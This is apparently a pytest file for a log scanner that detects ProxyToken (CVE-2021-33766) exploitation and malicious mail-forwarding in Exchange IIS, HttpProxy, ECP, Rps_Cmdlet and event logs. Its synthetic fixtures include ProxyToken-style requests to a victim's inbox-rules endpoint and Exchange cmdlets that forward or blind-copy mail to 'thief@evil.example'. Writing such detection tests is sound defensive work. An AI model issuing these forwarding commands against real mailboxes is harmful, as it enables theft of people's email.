"""ProxyToken (PS7) and mail-flow manipulation (DX4) in IIS, HttpProxy, ECP, Rps_Cmdlet and the
MSExchange Management event log. All lines are synthetic."""

from __future__ import annotations

from pathlib import Path

from lekdicht.catalog.kinds import ArtefactKind
from lekdicht.model import Verdict
from support.logsynth import (
    ecp_file,
    event_ids,
    httpproxy,
    httpproxy_file,
    iis_cookie_file,
    iis_cookie_line,
    iis_file,
    iis_line,
    mgmt_event,
    mgmt_event_message,
    rps_cmdlet,
    rps_cmdlet_file,
    rule_ids,
    scan_text,
)

NEWOBJECT = "/ecp/victim@example.org/RulesEditor/InboxRules.svc/NewObject"


def test_ps7_iis_proxytoken_success_and_attempt(tmp_path: Path) -> None:
    lines = [
        iis_line(
            "POST",
            "/ecp/victim%40example.org/RulesEditor/InboxRules.svc/NewObject",
            "500",
            ua="python-requests/2.26.0",
        ),
        iis_line("POST", NEWOBJECT, "200", "msExchEcpCanary=abc", ua="python-requests/2.26.0"),
        # negatives: the user's own rule editor, and an admin working on another mailbox while logged on
        iis_line(
            "POST",
            "/ecp/RulesEditor/InboxRules.svc/NewObject",
            "200",
            "msExchEcpCanary=x",
            user="EXAMPLE\\anna",
        ),
        iis_line("POST", NEWOBJECT, "200", "msExchEcpCanary=x", user="EXAMPLE\\admin"),
    ]
    findings = scan_text(tmp_path, ArtefactKind.IIS_W3C, iis_file(lines))
    assert [(f.rule_id, f.evidence.line) for f in findings] == [
        ("PS7-iis-proxytoken-inboxrule-attempt", 5),
        ("PS7-iis-proxytoken-inboxrule-success", 6),
    ]
    assert findings[1].cves == ["CVE-2021-33766"] and findings[1].verdict is Verdict.EXPLOITED
    assert "T1114.003" in findings[1].attack


def test_ps7_iis_security_token_cookie(tmp_path: Path) -> None:
    lines = [
        iis_cookie_line(
            "POST", "/ecp/x@example.org/RulesEditor/InboxRules.svc/GetList", "SecurityToken=x", "200"
        ),
        iis_cookie_line(
            "POST", "/ecp/x@example.org/RulesEditor/InboxRules.svc/GetList", "SecurityToken=x", "500"
        ),
        iis_cookie_line("GET", "/ecp/", "ASP.NET_SessionId=abc;+msExchEcpCanary=def", "200"),  # negative
    ]
    hits = [
        (f.rule_id, f.evidence.line)
        for f in scan_text(tmp_path, ArtefactKind.IIS_W3C, iis_cookie_file(lines))
    ]
    assert hits == [("PS7-iis-proxytoken-inboxrule-success", 5), ("PS7-iis-proxytoken-inboxrule-attempt", 6)]


def test_ps7_httpproxy(tmp_path: Path) -> None:
    lines = [
        httpproxy(UrlStem=NEWOBJECT, UrlQuery="?msExchEcpCanary=abc"),
        httpproxy(UrlStem=NEWOBJECT, HttpStatus="500"),
        httpproxy(
            UrlStem=NEWOBJECT, AuthenticatedUser="admin@example.org", IsAuthenticated="true"
        ),  # negative
    ]
    hits = [
        (f.rule_id, f.evidence.line)
        for f in scan_text(tmp_path, ArtefactKind.HTTPPROXY, httpproxy_file(lines))
    ]
    assert hits == [
        ("PS7-httpproxy-proxytoken-inboxrule-success", 6),
        ("PS7-httpproxy-proxytoken-inboxrule-attempt", 7),
    ]


def test_dx4_ecp_log_mail_flow(tmp_path: Path) -> None:
    events = [
        "S:TIME=12;S:CMD=New-InboxRule.Name='x'.ForwardTo='thief@evil.example'.Mailbox='victim';S:URL=/ecp/",
        "S:TIME=12;S:CMD=Set-Mailbox.Identity='anna'.ForwardingSmtpAddress='smtp:anna@evil.example';S:URL=/ecp/",
        "S:TIME=12;S:CMD=New-TransportRule.Name='j'.BlindCopyTo='thief@evil.example';S:URL=/ecp/",
        # negatives: a rule that only moves mail, forwarding cleared, reading settings
        "S:TIME=12;S:CMD=New-InboxRule.Name='news'.MoveToFolder='News'.Mailbox='anna';S:URL=/ecp/",
        "S:TIME=12;S:CMD=Set-Mailbox.Identity='anna'.ForwardingSmtpAddress='';S:URL=/ecp/",
        "S:TIME=12;S:CMD=Get-InboxRule;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList",
    ]
    findings = scan_text(tmp_path, ArtefactKind.ECP_SERVER, ecp_file(events))
    assert [(f.rule_id, f.evidence.line) for f in findings] == [
        ("DX4-ecp-inbox-rule-forward", 6),
        ("DX4-ecp-mailbox-forwarding", 7),
        ("DX4-ecp-transport-rule-redirect", 8),
    ]
    assert all(f.requires_corroboration and f.verdict is Verdict.SUSPICIOUS for f in findings)


def test_dx4_mgmt_log_mail_flow(tmp_path: Path) -> None:
    assert event_ids(
        tmp_path,
        mgmt_event("Set-Mailbox", '-Identity "anna" -ForwardingSmtpAddress "smtp:anna@evil.example"'),
    ) == {"DX4-mgmt-mailbox-forwarding"}
    assert event_ids(
        tmp_path,
        mgmt_event_message("New-InboxRule", '-Mailbox "victim" -Name "x" -RedirectTo "thief@evil.example"'),
    ) == {"DX4-mgmt-inbox-rule-forward"}
    assert event_ids(
        tmp_path, mgmt_event("Set-TransportRule", '-Identity "Journal" -AddToRecipients "thief@evil.example"')
    ) == {"DX4-mgmt-transport-rule-redirect"}
    negatives = [
        mgmt_event("Set-Mailbox", '-Identity "anna" -ForwardingSmtpAddress $null'),
        mgmt_event("Set-Mailbox", '-Identity "anna" -ProhibitSendQuota "5GB"'),
        mgmt_event("New-InboxRule", '-Mailbox "anna" -Name "news" -MoveToFolder "anna:\\News"'),
        mgmt_event_message("Set-Mailbox", '-Identity "anna" -ForwardingAddress ""'),
    ]
    for event in negatives:
        assert event_ids(tmp_path, event) == set(), event


def test_dx4_rps_cmdlet_mail_flow(tmp_path: Path) -> None:
    lines = [
        rps_cmdlet(
            "Set-Mailbox",
            '-Identity "anna" -ForwardingAddress "contact-x" -DeliverToMailboxAndForward "True"',
        ),
        rps_cmdlet("New-InboxRule", '-Mailbox "victim" -ForwardAsAttachmentTo "thief@evil.example"'),
        rps_cmdlet("New-TransportRule", '-Name "cc" -RedirectMessageTo "thief@evil.example"'),
        rps_cmdlet("Set-Mailbox", '-Identity "anna" -ForwardingSmtpAddress ""'),  # negative
    ]
    ids = [
        f.rule_id
        for f in scan_text(
            tmp_path, ArtefactKind.RPS_CMDLET, rps_cmdlet_file(lines), "Rps_Cmdlet_2021082003-1.LOG"
        )
    ]
    assert ids == [
        "DX4-rpscmdlet-mailbox-forwarding",
        "DX4-rpscmdlet-inbox-rule-forward",
        "DX4-rpscmdlet-transport-rule-redirect",
    ]


def test_rule_ids_helper_sees_nothing_on_empty_files(tmp_path: Path) -> None:
    assert rule_ids(scan_text(tmp_path, ArtefactKind.ECP_SERVER, ecp_file([]))) == set()
